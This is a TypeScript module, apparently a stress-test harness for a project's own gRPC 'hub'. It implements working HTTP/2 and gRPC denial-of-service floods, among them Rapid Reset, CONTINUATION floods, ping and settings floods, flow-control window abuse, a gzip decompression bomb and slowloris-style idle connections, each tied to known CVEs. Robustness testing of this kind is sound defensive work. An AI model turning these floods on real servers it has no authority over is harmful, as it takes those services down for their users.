import { gzipSync } from "node:zlib";
import {
  ACK,
  CONNECT,
  callFields,
  callHeaders,
  data,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  grpcMessage,
  headerBlock,
  INITIAL_WINDOW_SIZE,
  LIST_CHANNELS,
  PREFACE,
  rstStream,
  settings,
  windowUpdate,
} from "./frames.ts";
import { hostileSocket } from "./hostile-socket.ts";

/**
 * What is known to have brought HTTP/2 servers down, and what costs a gRPC server more than its
 * client. Each runs to its end, or until the hub closes its connection, and resolves to the frames,
 * calls or connections it has sent.
 * @param share how much of it to run; 1 is thousands of frames and hundreds of connections
 */
export const FLOODS: Record<string, (address: string, share: number) => Promise<number>> = {
  /** Calls that are taken back as soon as they are begun (CVE-2023-44487). */
  rapidReset: (address, share) =>
    repeat(address, 200, share * 100, (stream) =>
      Buffer.concat([callHeaders(stream, CONNECT), rstStream(stream)]),
    ),
  /** A header block without an end (CVE-2024-27316). */
  continuation: (address, share) =>
    flood(
      address,
      [PREFACE, settings(), frame(FRAME.headers, 0, 1, ONE_FIELD)],
      share * 2_000,
      () => frame(FRAME.continuation, 0, 1, ONE_FIELD),
    ),
  /** The same with blocks that are empty, so that no limit on header bytes is met. */
  emptyContinuation: (address, share) =>
    flood(
      address,
      [PREFACE, settings(), frame(FRAME.headers, 0, 1, ONE_FIELD)],
      share * 20_000,
      () => frame(FRAME.continuation, 0, 1, Buffer.alloc(0)),
    ),
  /** Settings and pings ask for an answer each (CVE-2019-9515, CVE-2019-9512); nobody reads them. */
  settings: (address, share) =>
    flood(
      address,
      [PREFACE, settings()],
      share * 50_000,
      () => settings([INITIAL_WINDOW_SIZE, 65_535]),
      false,
    ),
  ping: (address, share) =>
    flood(
      address,
      [PREFACE, settings()],
      share * 50_000,
      () => frame(FRAME.ping, 0, 0, EIGHT),
      false,
    ),
  /** Empty frames cost a look each (CVE-2019-9518). */
  emptyData: (address, share) =>
    flood(address, [PREFACE, settings(), callHeaders(1, CONNECT)], share * 20_000, () =>
      frame(FRAME.data, 0, 1, Buffer.alloc(0)),
    ),
  /** Answers that nobody takes (CVE-2019-9511, CVE-2019-9517). */
  zeroWindow: (address, share) =>
    repeat(
      address,
      200,
      share * 1,
      (stream) =>
        Buffer.concat([
          callHeaders(stream, LIST_CHANNELS),
          data(stream, grpcMessage(Buffer.alloc(0)), END_STREAM),
        ]),
      [settings([INITIAL_WINDOW_SIZE, 0])],
    ),
  /** More room than there are numbers for. */
  windowOverflow: (address, share) =>
    flood(address, [PREFACE, settings(), callHeaders(1, CONNECT)], share * 1_000, (count) =>
      windowUpdate(count % 2, 0x7fff_ffff),
    ),
  /** Room a byte at a time. */
  windowDribble: (address, share) =>
    flood(address, [PREFACE, settings(), callHeaders(1, CONNECT)], share * 20_000, (count) =>
      windowUpdate(count % 2, 1),
    ),
  /** As much metadata as the transport takes, on as many calls as it takes. */
  hugeMetadata: (address, share) =>
    repeat(address, 250, share * 10, (stream) =>
      inFrames(stream, headerBlock(callFields(CONNECT, [["x-large", "x".repeat(48_000)]]))),
    ),
  manyFields: (address, share) =>
    repeat(address, 250, share * 10, (stream) => {
      return inFrames(stream, FIELDS);
    }),
  /** What is small here and large there. */
  gzipBomb: (address, share) =>
    repeat(address, 20, share * 5, (stream) =>
      Buffer.concat([compressedCall(stream), data(stream, grpcMessage(BOMB, 1), END_STREAM)]),
    ),
  /** A decompressor for every five bytes. */
  gzipCrumbs: (address, share) =>
    repeat(address, 20, share * 5, (stream) =>
      Buffer.concat([
        compressedCall(stream),
        data(stream, Buffer.concat(Array<Buffer>(6_000).fill(grpcMessage(Buffer.alloc(0), 1)))),
      ]),
    ),
  /** Messages whose end never comes. */
  partialMessages: (address, share) =>
    repeat(address, 16, share * 1, (stream) =>
      Buffer.concat([
        callHeaders(stream, LIST_CHANNELS),
        data(stream, grpcMessage(Buffer.alloc(1024 * 1024), 0, 4 * 1024 * 1024)),
      ]),
    ),
  /** A message in as many pieces as it has bytes, each of which costs more than itself. */
  pieces: (address, share) =>
    flood(
      address,
      [PREFACE, settings(), callHeaders(1, CONNECT), data(1, BEGUN)],
      share * 100_000,
      () => frame(FRAME.data, 0, 1, Buffer.of(1)),
    ),
  /** Many messages in few bytes, none of them anything. */
  crumbs: (address, share) =>
    repeat(address, 20, share * 5, (stream) =>
      Buffer.concat([
        callHeaders(stream, CONNECT),
        data(stream, Buffer.concat(Array<Buffer>(6_000).fill(grpcMessage(Buffer.alloc(0))))),
      ]),
    ),
  /** Nothing is said at all, or only the first words. */
  silent: (address, share) => idle(address, share * 400, []),
  prefaceOnly: (address, share) => idle(address, share * 400, [PREFACE]),
  greetedOnly: (address, share) =>
    idle(address, share * 400, [
      PREFACE,
      settings(),
      frame(FRAME.settings, ACK, 0, Buffer.alloc(0)),
    ]),
  slowHeaders: (address, share) =>
    idle(address, share * 400, [PREFACE, settings(), frame(FRAME.headers, 0, 1, ONE_FIELD)]),
};

/** Says that 4 MB follow. */
const BEGUN = grpcMessage(Buffer.alloc(0), 0, 4_000_000);
const FIELDS = headerBlock(
  callFields(
    CONNECT,
    Array.from({ length: 5_000 }, (_, index) => [`x-${index}`, ""] as const),
  ),
);
const ONE_FIELD = headerBlock([["x", "y"]]);
const EIGHT = Buffer.alloc(8);
const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024));

function compressedCall(stream: number): Buffer {
  return callHeaders(stream, CONNECT, [
    ["claw-agent-id", "mallory"],
    ["grpc-encoding", "gzip"],
  ]);
}

/** A header block in frames that are not too large. */
function inFrames(stream: number, block: Buffer): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const flags = at + 16_384 >= block.length ? END_HEADERS : 0;
    const type = at === 0 ? FRAME.headers : FRAME.continuation;
    frames.push(frame(type, flags, stream, block.subarray(at, at + 16_384)));
  }
  return Buffer.concat(frames);
}

const FRAMES_AT_ONCE = 500;

/** One connection that says something again and again. */
async function flood(
  address: string,
  first: Uint8Array[],
  times: number,
  next: (count: number) => Buffer,
  reads = true,
): Promise<number> {
  const socket = await hostileSocket(address, reads);
  await socket.say(Buffer.concat(first));
  let sent = 0;
  while (sent < times && !socket.isClosed()) {
    const some = Array.from({ length: Math.min(FRAMES_AT_ONCE, times - sent) }, (_, index) =>
      next(sent + index),
    );
    const said = socket.say(Buffer.concat(some));
    sent += some.length;
    // Where the hub has stopped reading, there is nothing more to be seen.
    if (!(await inTime(said))) break;
  }
  await socket.cut();
  return sent;
}

const PATIENCE_MS = 2_000;

async function inTime(work: Promise<void>): Promise<boolean> {
  const late = Promise.withResolvers<boolean>();
  const timer = setTimeout(() => late.resolve(false), PATIENCE_MS);
  const done = await Promise.race([work.then(() => true), late.promise]);
  clearTimeout(timer);
  return done;
}

/** Connections that begin call after call, as long as they last. */
async function repeat(
  address: string,
  calls: number,
  connections: number,
  call: (stream: number) => Buffer,
  first: Uint8Array[] = [settings()],
): Promise<number> {
  let sent = 0;
  for (let count = 0; count < connections; count += 1) {
    const socket = await hostileSocket(address);
    await socket.say(Buffer.concat([PREFACE, ...first]));
    for (let index = 0; index < calls && !socket.isClosed(); index += 1) {
      sent += 1;
      if (!(await inTime(socket.say(call(2 * index + 1))))) break;
    }
    await inTime(socket.settled());
    await socket.cut();
  }
  return sent;
}

/** Many connections that say no more than this. */
async function idle(address: string, count: number, words: Uint8Array[]): Promise<number> {
  const sockets = await Promise.all(
    Array.from({ length: Math.ceil(count) }, async () => {
      const socket = await hostileSocket(address);
      await socket.say(Buffer.concat(words));
      return socket;
    }),
  );
  await Promise.all(sockets.map((socket) => socket.cut()));
  return sockets.length;
}
